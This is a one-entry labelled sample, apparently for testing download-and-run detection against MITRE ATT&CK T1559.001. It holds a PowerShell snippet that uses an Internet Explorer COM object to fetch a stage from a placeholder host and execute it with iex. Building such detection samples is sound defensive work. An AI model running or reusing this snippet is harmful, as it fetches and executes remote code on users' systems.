# expect: download-and-run | source: MITRE ATT&CK T1559.001
$ie = New-Object -ComObject InternetExplorer.Application
$ie.Navigate('http://files.example.invalid/stage')
while ($ie.Busy) { Start-Sleep 1 }
iex $ie.Document.body.innerText
